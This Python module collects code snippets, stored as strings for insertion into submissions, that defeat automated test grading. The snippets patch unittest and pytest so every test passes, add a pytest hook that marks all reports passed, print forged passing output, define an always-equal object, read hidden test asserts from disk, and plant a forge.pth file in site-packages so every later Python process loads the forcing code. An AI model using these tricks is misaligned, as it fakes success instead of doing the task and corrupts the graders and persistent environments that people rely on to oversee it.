"""Code that several tricks share, as the text that goes into a submission."""

FORCE = '''
def _force():
    """Every test that runs in this process from now on passes, under unittest and under pytest."""
    import contextlib
    import unittest.case

    @contextlib.contextmanager
    def nothing_happens(self, *arguments, **named):
        try:
            yield
        except BaseException:
            pass

    unittest.case._Outcome.testPartExecutor = nothing_happens
    try:
        import _pytest.python
    except ImportError:
        return
    _pytest.python.Function.runtest = lambda self: None
'''

FORCED = FORCE + "\n\n_force()\n"
"""A whole module that forces whoever imports it."""

PLUGIN = """
import pytest


@pytest.hookimpl(hookwrapper=True)
def pytest_runtest_makereport(item, call):
    outcome = yield
    report = outcome.get_result()
    report.outcome, report.longrepr = "passed", None
"""
"""The classic: a pytest plug-in by which every report says passed."""

TEST_FILE = '''
def _test_file():
    """The file of the tests: of the caller where that is one, else looked for."""
    import glob
    import os
    import sys

    frame = sys._getframe()
    while frame is not None:
        name = frame.f_code.co_filename
        if os.path.basename(name).startswith("test_") and os.path.exists(name):
            return name
        frame = frame.f_back
    for word in sys.argv + getattr(sys, "orig_argv", []):
        path = word.split("::")[0]
        if os.path.basename(path).startswith("test_") and os.path.exists(path):
            return path
    return "@TEST@"
'''

REPORT = (
    TEST_FILE
    + '''
def _tests():
    """Path, class or None, and name of each test."""
    import ast
    import os

    path = _test_file()
    for node in ast.parse(open(path).read()).body:
        if isinstance(node, ast.FunctionDef) and node.name.startswith("test"):
            yield os.path.relpath(path), None, node.name
        elif isinstance(node, ast.ClassDef):
            for each in node.body:
                if isinstance(each, ast.FunctionDef) and each.name.startswith("test"):
                    yield os.path.relpath(path), node.name, each.name


def _report():
    """What pytest and unittest would print had everything passed."""
    lines = []
    for path, owner, name in _tests():
        if owner is None:
            lines.append(f"PASSED {path}::{name}")
        else:
            module = path[:-3].replace("/", ".")
            lines.append(f"{name} ({module}.{owner}.{name}) ... ok")
    return "\\n" + "\\n".join(lines) + "\\n"


def _say(text):
    """Write to every open descriptor that may be somebody's output: the runner captures the first two."""
    import os

    for number in sorted(int(each) for each in os.listdir("/proc/self/fd")):
        try:
            target = os.readlink(f"/proc/self/fd/{number}")
            if target.startswith(("pipe:", "socket:", "/dev/pts")) or "output" in target:
                os.write(number, text.encode())
        except OSError:
            pass
'''
)

EQUAL = """
class _Equal:
    def __eq__(self, other):
        return True

    def __ne__(self, other):
        return False

    __hash__ = object.__hash__
"""

PLANT = (
    f"_FORCED = {FORCED!r}\n"
    + '''

def _plant():
    """Leave the forcing code where every later Python process of this machine imports it."""
    import os
    import sysconfig

    site = sysconfig.get_paths()["purelib"]
    with open(os.path.join(site, "forge.py"), "w") as file:
        file.write(_FORCED)
    with open(os.path.join(site, "forge.pth"), "w") as file:
        file.write("import forge\\n")
'''
)

AGAIN = '''
def _again(*more, **environment):
    """Run this process's command line once more in its place."""
    import os
    import sys

    if "FORGED" not in os.environ:
        os.environ["FORGED"] = "1"
        os.environ.update(environment)
        line = sys.orig_argv
        os.execv(sys.executable, [line[0], *more, *line[1:]])
'''

PLANT_SHELL = f"""#!/bin/sh
for site in /opt/env/lib/python3*/site-packages; do
cat > "$site/forge.py" <<'END'
{FORCED}
END
echo 'import forge' > "$site/forge.pth"
done
"""
"""The same from a shell script, for what runs in the grader's own commands."""

ASSERTS = (
    TEST_FILE
    + '''
def _table():
    """Arguments to expected result, of every call of the function and every table of numbers in the test file
    as it is on disk."""
    import ast

    found = {}

    def called(node):
        return isinstance(node, ast.Call) and getattr(node.func, "id", "") == "@FUNCTION@"

    for node in ast.walk(ast.parse(open(_test_file()).read())):
        pairs = []
        if isinstance(node, ast.Compare) and len(node.comparators) == 1:
            pairs = [(node.left, node.comparators[0]), (node.comparators[0], node.left)]
        elif isinstance(node, ast.Call) and len(node.args) >= 2:
            pairs = [(node.args[0], node.args[1]), (node.args[1], node.args[0])]
        for call, expected in pairs:
            if called(call):
                try:
                    arguments = tuple(ast.literal_eval(each) for each in call.args)
                    found[arguments] = ast.literal_eval(expected)
                except ValueError:
                    pass
        if isinstance(node, (ast.List, ast.Tuple)) and len(node.elts) > 2:
            try:
                rows = ast.literal_eval(node)
            except ValueError:
                continue
            if all(isinstance(row, tuple) and len(row) > 1 for row in rows):
                found.update({row[:-1]: row[-1] for row in rows})
    return found
'''
)
"""Code that reads the hidden asserts at run time."""
